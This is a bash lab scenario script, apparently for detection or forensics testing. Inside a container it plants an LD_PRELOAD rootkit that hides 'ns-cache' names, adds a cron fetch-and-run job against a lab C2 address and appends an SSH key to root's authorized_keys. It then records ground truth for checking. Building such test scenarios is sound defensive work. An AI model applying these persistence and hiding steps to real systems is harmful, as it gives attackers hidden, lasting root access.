#!/bin/bash
# Scenario preload-cron: LD_PRELOAD rootkit and persistence. The workload is a Perl app that a
# supervisor shell (pid 1) restarts when it exits. An attacker's shell (exec'd later) drops a
# library built here (readdir/readdir64 wrappers hiding names that contain 'ns-cache') as
# /usr/local/lib/libns-cache.so.1, names it in /etc/ld.so.preload, adds a cron line in
# /etc/cron.d that runs a fetch-and-run script every 5 minutes, appends an ssh key to
# /root/.ssh/authorized_keys and kills the app: the restarted app has the library mapped.
# Usage: lab/scenarios/preload-cron.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init preload-cron "$@"

C2="$(lab_addr 113):$(lab_pick 80 8080 8000)"
LIB=/usr/local/lib/libns-cache.so.1
JOB=/usr/local/lib/.ns-cache/update.sh
CRON=/etc/cron.d/ns-cache
CRONLINE="*/5 * * * * root $JOB >/dev/null 2>&1"
command -v gcc >/dev/null || lab_skip "gcc missing (run lab/setup.sh)"
gcc -shared -fPIC -O2 -Wall -DHIDE='"ns-cache"' -o "$WORK/lib.so" "$SPEC/hide.c" -ldl || lab_die "library build failed"
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" secrets "$WORK/sec" >/dev/null || lab_die "fakedata failed"
SSHKEY=$(lab_json_pick "$WORK/sec/values.json" ssh_pubkey)
lab_template "$SPEC/update.sh" "$WORK/update.sh" "C2=$C2" "C2_ADDR=${C2%:*}" "C2_PORT=${C2#*:}"
lab_host_dir APP app
lab_template "$LAB_DIR/specimens/shared/appworker.pl" "$APP/server.pl"

lab_create --env APP_ENV=prod --env APP_NAME=auth-svc --env APP_LOG=/var/log/auth-svc/server.log \
    -v "$APP:/srv/auth:ro" --hostname auth-svc -- sh -c 'while :; do perl /srv/auth/server.pl; sleep 1; done'
lab_start
lab_wait "the app runs" 10 lab_cexec pgrep -f '^perl /srv/auth/server.pl'
lab_cp "$WORK/lib.so" "$LIB" 0755
lab_cp "$WORK/update.sh" "$JOB" 0755
lab_cexec sh -c "echo '$LIB' > /etc/ld.so.preload && echo '$CRONLINE' > $CRON && chmod 644 $CRON \
    && mkdir -p -m 700 /root/.ssh && echo '$SSHKEY' >> /root/.ssh/authorized_keys \
    && chmod 600 /root/.ssh/authorized_keys && pkill -f '^perl /srv/auth/server.pl'" || lab_die "planting failed"
lab_wait "the app runs again with the library" 10 \
    lab_cexec sh -c "grep -q libns-cache /proc/\$(pgrep -f '^perl /srv/auth/server.pl')/maps"

lab_finish /etc/ld.so.preload "$LIB" "$JOB" "$CRON" /root/.ssh/authorized_keys

lab_kv_json "$WORK/params.json" "library=$LIB" "preload_file=/etc/ld.so.preload" "hides=ns-cache" \
    "cron_file=$CRON" "cron_line=$CRONLINE" "cron_job=$JOB" "c2=$C2" \
    "authorized_keys=/root/.ssh/authorized_keys" "ssh_pubkey=$SSHKEY" \
    "library_sha256=$(sha256sum "$WORK/lib.so" | cut -d' ' -f1)"
lab_facts --proc "preloaded=^perl /srv/auth/server.pl"
lab_truth --description "ld.so.preload rootkit $LIB (hides 'ns-cache'), cron line in $CRON, ssh key in /root/.ssh/authorized_keys; the restarted app has the library mapped" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
